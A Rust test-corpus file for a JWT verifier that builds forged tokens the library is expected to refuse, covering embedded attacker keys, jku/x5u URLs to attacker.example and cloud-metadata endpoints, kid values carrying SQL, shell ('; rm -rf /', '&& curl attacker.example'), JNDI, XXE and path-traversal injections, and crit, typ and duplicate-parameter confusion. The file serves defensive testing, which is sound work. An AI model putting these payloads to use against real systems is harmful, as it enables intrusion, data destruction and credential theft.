//! Header parameters: keys that a token brings along, names of keys, extensions, and types.

use jwtward::Algorithm;
use serde_json::json;

use crate::{
    corpus::{
        ACCESS, Corpus, DUPLICATE, algorithm, b64, crit, crit_unknown, header, nested, no_key, parameter, signature,
        typ, zip,
    },
    keys::{Key, Owner, encode, is_rsa, mac, public_jwk, signed_by},
};

pub(crate) fn add(corpus: &mut Corpus) {
    embedded_keys(corpus);
    kid(corpus);
    crit_parameter(corpus);
    extensions(corpus);
    duplicates(corpus);
    types(corpus);
}

fn embedded_keys(corpus: &mut Corpus) {
    corpus.begin("embedded-key");
    for &algorithm in Algorithm::ALL {
        let (key, attacker) = (Key::new(algorithm), Key::attackers(algorithm));
        let jwk = public_jwk(algorithm, Owner::Attacker);
        for (members, reason) in [
            (String::new(), "Signed by a key that is not the verifier's."),
            (format!(r#","jwk":{jwk}"#), "The header brings the key that signed it."),
            (
                format!(r#","kid":"key-1","jwk":{}"#, jwk.replacen('{', r#"{"kid":"key-1","#, 1)),
                "The header brings the key that signed it, under the trusted key's kid.",
            ),
            (
                r#","jku":"https://attacker.example/jwks.json","kid":"key-1""#.into(),
                "The header says where the key that signed it is to be fetched.",
            ),
        ] {
            let header = format!(r#"{{"alg":"{algorithm}"{members}}}"#);
            corpus.refused(&key, attacker.token(header, corpus.claims()), signature(), reason);
        }
    }
    let (key, attacker) = (Key::new(Algorithm::ES256), Key::attackers(Algorithm::ES256));
    for (name, value) in [
        ("jku", "http://127.0.0.1:8080/jwks.json"),
        ("jku", "http://169.254.169.254/latest/meta-data/"),
        ("jku", "file:///etc/passwd"),
        ("jku", "https://auth.example@attacker.example/jwks.json"),
        ("jku", "https://auth.example/redirect?to=https://attacker.example/jwks.json"),
        ("jku", "//attacker.example/jwks.json"),
        ("jku", "data:application/json,{\"keys\":[]}"),
        ("jku", ""),
        ("x5u", "https://attacker.example/certificate.pem"),
        ("x5u", "http://localhost/certificate.pem"),
        ("x5u", "ftp://attacker.example/certificate.pem"),
        ("x5t", "AAAAAAAAAAAAAAAAAAAAAAAAAAA"),
        ("x5t#S256", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"),
    ] {
        let header = json!({"alg": "ES256", name: value}).to_string();
        let reason = format!("The header's {name} leads to a key of the attacker.");
        corpus.refused(&key, attacker.token(header, corpus.claims()), signature(), reason);
    }
    for (value, reason) in [
        (json!(["MAA="]), "x5c holds what is no certificate."),
        (json!([]), "x5c is empty."),
        (json!("MAA="), "x5c is a text."),
        (json!({"0": "MAA="}), "x5c is an object."),
    ] {
        let header = json!({"alg": "ES256", "x5c": value}).to_string();
        corpus.refused(&key, attacker.token(header, corpus.claims()), signature(), reason);
    }
    // The secret in the header, in every form that a key may have there.
    let hs = Key::new(Algorithm::HS256);
    for (jwk, secret, reason) in [
        (r#"{"kty":"oct","k":"AAAA"}"#, vec![0; 3], "The header brings the HMAC secret that signed it."),
        (r#"{"kty":"oct","k":""}"#, vec![], "The header brings an empty HMAC secret."),
        (r#"{"kty":"oct"}"#, vec![], "The header brings an HMAC key without a secret."),
        (r#"{}"#, vec![], "The header brings a key without anything."),
        ("null", vec![], "The header's jwk is null."),
        (r#""AAAA""#, vec![0; 3], "The header's jwk is a text."),
    ] {
        let header = format!(r#"{{"alg":"HS256","jwk":{jwk}}}"#);
        let token = signed_by(header, corpus.claims(), |input| mac(Algorithm::HS256, &secret, input));
        corpus.refused(&hs, token, signature(), reason);
    }
    let own = public_jwk(Algorithm::ES256, Owner::Issuer);
    let header = format!(r#"{{"alg":"ES256","jwk":{own}}}"#);
    let token = attacker.token(header, corpus.claims());
    corpus.refused(&key, token, signature(), "The header brings the trusted key, and another has signed.");
}

fn kid(corpus: &mut Corpus) {
    corpus.begin("kid");
    let set = Key::in_a_set(Algorithm::HS256);
    for kid in [
        "",
        "KEY-1",
        "Key-1",
        "key-1 ",
        " key-1",
        "key-",
        "key-11",
        "key-1\0",
        "\0key-1",
        "key-1\n",
        "key-1\r\nX-Injected: 1",
        "./key-1",
        "key-1/.",
        "key-1,key-2",
        "*",
        "?",
        ".*",
        "%6bey-1",
        "key%2d1",
        "key\u{2010}1",
        "k\u{435}y-1",
        "key-1\u{301}",
        "\u{202e}1-yek",
        "\u{feff}key-1",
        "0",
        "1",
        "-1",
        "null",
        "undefined",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "keys",
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "/etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "C:\\Windows\\win.ini",
        "file:///dev/null",
        "https://attacker.example/key.pem",
        "//attacker.example/key",
        "' OR '1'='1",
        "' OR 1=1 --",
        "x' UNION SELECT 'AAAA' --",
        "x\" UNION SELECT \"AAAA\" --",
        "key-1'; DROP TABLE keys; --",
        "{\"$ne\":null}",
        "*)(uid=*))(|(uid=*",
        "$(id)",
        "`id`",
        "| cat /etc/passwd",
        "; rm -rf /",
        "&& curl attacker.example",
        "|/bin/ls",
        "${jndi:ldap://attacker.example/x}",
        "{{7*7}}",
        "<%= 7*7 %>",
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
        "%s%s%s%n",
        "\u{1b}[2J",
        "😀",
    ] {
        let header = json!({"alg": "HS256", "kid": kid}).to_string();
        let reason = "The kid names no key, whatever it would mean to a file system, a database or a shell.";
        corpus.refused(&set, set.token(header, corpus.claims()), no_key(), reason);
    }
    for length in [257, 1000, 2800] {
        let header = json!({"alg": "HS256", "kid": "k".repeat(length)}).to_string();
        let reason = format!("A kid of {length} octets names no key.");
        corpus.refused(&set, set.token(header, corpus.claims()), no_key(), reason);
    }
    for kid in ["1", "0", "-1", "1e400", "null", "true", "[]", r#"["key-1"]"#, "{}", r#"{"key-1":1}"#, r#"[["key-1"]]"#]
    {
        let header = format!(r#"{{"alg":"HS256","kid":{kid}}}"#);
        let refusal = if kid == "1e400" { header_range() } else { parameter("kid") };
        corpus.refused(&set, set.token(header, corpus.claims()), refusal, "The kid is not a text.");
    }
    for algorithm in [Algorithm::HS256, Algorithm::ES256, Algorithm::RS256, Algorithm::EdDSA] {
        let key = Key::new(algorithm);
        let header = format!(r#"{{"alg":"{algorithm}","kid":"key-2"}}"#);
        corpus.refused(&key, key.token(header, corpus.claims()), no_key(), "The only key has another name.");
        let set = Key::in_a_set(algorithm);
        let header = format!(r#"{{"alg":"{algorithm}","kid":"key-2"}}"#);
        let token = set.token(header, corpus.claims_with(r#""a":1"#));
        corpus.refused(&set, token, signature(), "The kid names the other key of the set.");
        let reason = "Two keys fit, and the token names none.";
        corpus.refused(&set, set.plain(corpus.claims()), no_key(), reason);
    }
}

fn header_range() -> crate::corpus::Refusal {
    header("a number is out of range")
}

fn crit_parameter(corpus: &mut Corpus) {
    corpus.begin("crit");
    let key = Key::new(Algorithm::HS384);
    for members in [
        r#""crit":["x"],"x":1"#,
        r#""x":null,"crit":["x"]"#,
        r#""crit":["exp"],"exp":1800000900"#,
        r#""crit":["iss"],"iss":"https://auth.example""#,
        r#""crit":["http://example.com/u"],"http://example.com/u":true"#,
        r#""crit":["x","y"],"x":1,"y":2"#,
        r#""crit":["\u0078"],"x":1"#,
        r#""crit":["x"],"\u0078":1"#,
        r#""\u0063rit":["x"],"x":1"#,
        r#""crit":["zip"],"zip":"DEF""#,
        r#""crit":["enc"],"enc":"A256GCM""#,
        r#""crit":["ALG"],"ALG":1"#,
        r#""crit":["Crit"],"Crit":1"#,
        r#""crit":[""],"":1"#,
        r#""crit":["ppt"],"ppt":"shaken""#,
        r#""crit":["b64"],"b64":true"#,
        r#""crit":["b64"],"b64":false"#,
        r#""crit":["cnf"],"cnf":{"jkt":"x"}"#,
        r#""crit":["nonce"],"nonce":"x""#,
        r#""crit":["url"],"url":"https://auth.example""#,
        r#""crit":["exp","x"],"exp":1,"x":2"#,
        r#""crit":["b64","x"],"b64":true,"x":2"#,
        r#""crit":["\ud83d\ude00"],"😀":2"#,
        r#""crit":["sigT"],"sigT":"2027-01-15T08:00:00Z""#,
    ] {
        let header = format!(r#"{{"alg":"HS384",{members}}}"#);
        let reason = "crit demands an extension that nobody here understands.";
        corpus.refused(&key, key.token(header, corpus.claims()), crit_unknown(), reason);
    }
    for (crit_value, reason) in [
        ("[]", "crit is empty."),
        ("null", "crit is null."),
        ("true", "crit is true."),
        ("false", "crit is false."),
        ("1", "crit is a number."),
        ("\"\"", "crit is the empty text."),
        ("\"x\"", "crit is a text."),
        ("\"b64\"", "crit is the text b64."),
        ("{}", "crit is an object without members."),
        (r#"{"x":1}"#, "crit is an object."),
        (r#"{"0":"x"}"#, "crit is an object that looks like an array."),
        ("[1]", "crit holds a number."),
        ("[null]", "crit holds null."),
        ("[true]", "crit holds true."),
        (r#"[["x"]]"#, "crit holds an array."),
        (r#"[{"x":1}]"#, "crit holds an object."),
        (r#"["x",1]"#, "crit holds a name and a number."),
        (r#"["x",null]"#, "crit holds a name and null."),
        (r#"["x","x"]"#, "crit holds a name twice."),
        (r#"["x","y","x"]"#, "crit holds a name twice, not side by side."),
        (r#"["x","\u0078"]"#, "crit holds a name twice, once with an escape."),
        (r#"["alg"]"#, "crit holds the registered name alg."),
        (r#"["crit"]"#, "crit holds its own name."),
        (r#"["kid"]"#, "crit holds the registered name kid."),
        (r#"["typ"]"#, "crit holds the registered name typ."),
        (r#"["cty"]"#, "crit holds the registered name cty."),
        (r#"["jwk"]"#, "crit holds the registered name jwk."),
        (r#"["jku"]"#, "crit holds the registered name jku."),
        (r#"["x5u"]"#, "crit holds the registered name x5u."),
        (r#"["x5c"]"#, "crit holds the registered name x5c."),
        (r#"["x5t"]"#, "crit holds the registered name x5t."),
        (r##"["x5t#S256"]"##, "crit holds the registered name x5t#S256."),
        (r#"["x","alg"]"#, "crit holds an extension and a registered name."),
        (r#"["b64"]"#, "crit names b64, which the header lacks."),
        (r#"["absent"]"#, "crit names what the header lacks."),
        (r#"["x","absent"]"#, "crit names something that the header lacks."),
        (r#"["X"]"#, "crit names a parameter in another letter case."),
        (r#"["x "]"#, "crit names a parameter with a space."),
        (r#"[""]"#, "crit holds the empty name, which the header lacks."),
    ] {
        let others =
            r##""kid":"key-1","typ":"JWT","cty":"x","jwk":{},"jku":"","x5u":"","x5c":[],"x5t":"","x5t#S256":"""##;
        let header = format!(r#"{{"alg":"HS384","x":1,"y":2,{others},"crit":{crit_value}}}"#);
        corpus.refused(&key, key.token(header, corpus.claims()), crit(), reason);
    }
    let many: Vec<String> = (0..100).map(|i| i.to_string()).collect();
    let header = json!({"alg": "HS384", "crit": many}).to_string();
    corpus.refused(&key, key.token(header, corpus.claims()), crit(), "crit holds a hundred names.");
}

fn extensions(corpus: &mut Corpus) {
    corpus.begin("extension");
    let key = Key::new(Algorithm::HS512);
    for value in ["\"DEF\"", "\"GZIP\"", "\"\"", "\"none\"", "null", "false", "true", "0", "[]", "{}"] {
        let header = format!(r#"{{"alg":"HS512","zip":{value}}}"#);
        let reason = format!("zip is {value}: a JWS has no compression.");
        corpus.refused(&key, key.token(header, corpus.claims()), zip(), reason);
    }
    for (value, refusal) in [
        ("true", b64()),
        ("false", b64()),
        ("null", parameter("b64")),
        ("0", parameter("b64")),
        ("\"false\"", parameter("b64")),
        ("[]", parameter("b64")),
    ] {
        let header = format!(r#"{{"alg":"HS512","b64":{value}}}"#);
        let reason = format!("b64 is {value}: a JWT has an encoded payload, always.");
        corpus.refused(&key, key.token(header, corpus.claims()), refusal, reason);
    }
    let header = r#"{"alg":"HS512","\u0062\u0036\u0034":false}"#;
    corpus.refused(&key, key.token(header, corpus.claims()), b64(), "b64 is false, its name written with escapes.");
    let inner = key.plain(corpus.claims());
    for cty in ["JWT", "jwt", "Jwt", "application/jwt", "APPLICATION/JWT", "J\\u0057T"] {
        let header = format!(r#"{{"alg":"HS512","cty":"{cty}"}}"#);
        corpus.refused(&key, key.token(&header, corpus.claims()), nested(), "cty says JWT, and the payload is claims.");
        corpus.refused(&key, key.token(&header, &inner), nested(), "cty says JWT, and the payload is one.");
    }
    for cty in ["5", "null", "[]", "true", "{}"] {
        let header = format!(r#"{{"alg":"HS512","cty":{cty}}}"#);
        corpus.refused(&key, key.token(header, corpus.claims()), parameter("cty"), "cty is not a text.");
    }
    let reason = "The payload is a token, and no cty says so.";
    corpus.refused(&key, key.plain(&inner), crate::corpus::payload("not a json object"), reason);
    // RFC 7797: the payload as it is, between the dots.
    let head = encode(r#"{"alg":"HS512","b64":false,"crit":["b64"]}"#);
    let reason = "The payload is not encoded, as RFC 7797 has it; a JWT never is.";
    corpus.refused(&key, key.over(&format!("{head}.$!")), crit_unknown(), reason);
}

fn duplicates(corpus: &mut Corpus) {
    corpus.begin("duplicate-parameter");
    let key = Key::new(Algorithm::RS256);
    for (members, reason) in [
        (r#""alg":"RS256","alg":"RS256""#, "alg twice, alike."),
        (r#""alg":"none","alg":"RS256""#, "alg twice, none first."),
        (r#""alg":"RS256","alg":"none""#, "alg twice, none last."),
        (r#""alg":"HS256","alg":"RS256""#, "alg twice, HS256 first."),
        (r#""alg":"RS256","alg":null"#, "alg twice, null last."),
        (r#""alg":"RS256","\u0061lg":"none""#, "alg twice, once with an escape."),
        (r#""\u0061\u006C\u0067":"none","alg":"RS256""#, "alg twice, first with escapes alone."),
        (r#""al\u0067":"RS256","a\u006cg":"RS256""#, "alg twice, each with another escape."),
        (r#""alg":"RS256","kid":"key-1","kid":"key-2""#, "kid twice."),
        (r#""alg":"RS256","typ":"JWT","typ":"at+jwt""#, "typ twice."),
        (r#""alg":"RS256","typ":"JWT","t\u0079p":"JWT""#, "typ twice, alike, once with an escape."),
        (r#""alg":"RS256","x":1,"x":2"#, "An unknown parameter twice."),
        (r#""alg":"RS256","":1,"":2"#, "The empty name twice."),
        (r#""alg":"RS256","\ud83d\ude00":1,"😀":2"#, "One character twice, once as an escaped pair."),
        (r#""alg":"RS256","a\/b":1,"a/b":2"#, "One name twice, once with an escaped slash."),
        (r#""alg":"RS256","x":{"y":1,"y":2}"#, "A name twice within a parameter."),
        (r#""alg":"RS256","x":[[{"y":1,"\u0079":2}]]"#, "A name twice deep within a parameter."),
        (r#""alg":"RS256","jwk":{"kty":"oct","kty":"RSA"}"#, "kty twice within a jwk."),
        (r#""alg":"RS256","crit":["x"],"crit":[]"#, "crit twice."),
    ] {
        let token = key.token(format!("{{{members}}}"), corpus.claims());
        corpus.refused(&key, token, header(DUPLICATE), reason);
    }
}

fn types(corpus: &mut Corpus) {
    corpus.begin("token-type");
    corpus.under(&ACCESS);
    let (es, attacker) = (Key::new(Algorithm::ES512), Key::attackers(Algorithm::ES512));
    for value in [
        "JWT",
        "jwt",
        "JOSE",
        "JWS",
        "id+jwt",
        "id_token+jwt",
        "rt+jwt",
        "refresh+jwt",
        "logout+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "token-introspection+jwt",
        "entity-statement+jwt",
        "vc+sd-jwt",
        "kb+jwt",
        "client-authentication+jwt",
        "oauth-authz-req+jwt",
        "wit+jwt",
        "at",
        "at+jw",
        "at+jwtx",
        "xat+jwt",
        "at+jwt ",
        " at+jwt",
        "at jwt",
        "at-jwt",
        "at%2bjwt",
        "at+jwt\\u0000",
        "at+jwt;x=1",
        "at+jwt,JWT",
        "application/application/at+jwt",
        "text/at+jwt",
        "/at+jwt",
        "application/",
        "application/jwt",
        "\u{430}t+jwt",
        "at\u{ff0b}jwt",
        "",
    ] {
        let header = format!(r#"{{"alg":"ES512","typ":"{value}"}}"#);
        let reason = "Another kind of token than the access token that is due.";
        corpus.refused(&es, es.token(header, corpus.claims()), typ(), reason);
    }
    corpus.refused(&es, es.plain(corpus.claims()), typ(), "A token that does not say what it is.");
    for value in ["1", "null", "true", "[]", r#"["at+jwt"]"#, "{}"] {
        let header = format!(r#"{{"alg":"ES512","typ":{value}}}"#);
        corpus.refused(&es, es.token(header, corpus.claims()), parameter("typ"), "typ is not a text.");
    }
    let members = r#""alg":"ES512","x":{"typ":"at+jwt"}"#;
    let reason = "A typ within another parameter is not the token's.";
    corpus.refused(&es, es.token(format!("{{{members}}}"), corpus.claims()), typ(), reason);
    let members = r#""alg":"ES512","TYP":"at+jwt""#;
    corpus.refused(&es, es.token(format!("{{{members}}}"), corpus.claims()), typ(), "TYP is not typ.");
    let reason = "A typ among the claims is not the header's.";
    corpus.refused(&es, es.plain(corpus.claims_with(r#""typ":"at+jwt""#)), typ(), reason);
    let logout = r#""events":{"http://schemas.openid.net/event/backchannel-logout":{}},"sid":"s""#;
    let header = r#"{"alg":"ES512","typ":"logout+jwt"}"#;
    let reason = "An OpenID Connect logout token in place of an access token.";
    corpus.refused(&es, es.token(header, corpus.claims_with(logout)), typ(), reason);
    let id = r#""nonce":"n","at_hash":"AAAA","azp":"client""#;
    let reason = "An OpenID Connect ID token in place of an access token.";
    corpus.refused(&es, es.token(r#"{"alg":"ES512","typ":"JWT"}"#, corpus.claims_with(id)), typ(), reason);
    let reason = "The right typ does not help a wrong signature.";
    let header = r#"{"alg":"ES512","typ":"at+jwt"}"#;
    corpus.refused(&es, attacker.token(header, corpus.claims()), signature(), reason);
    for algorithm_sent in [Algorithm::ES256, Algorithm::HS256, Algorithm::RS256] {
        assert!(!is_rsa(Algorithm::ES512));
        let header = format!(r#"{{"alg":"{algorithm_sent}","typ":"JWT"}}"#);
        let reason = "A wrong alg and a wrong typ.";
        corpus.refused(&es, es.token(header, corpus.claims()), algorithm(), reason);
    }
}
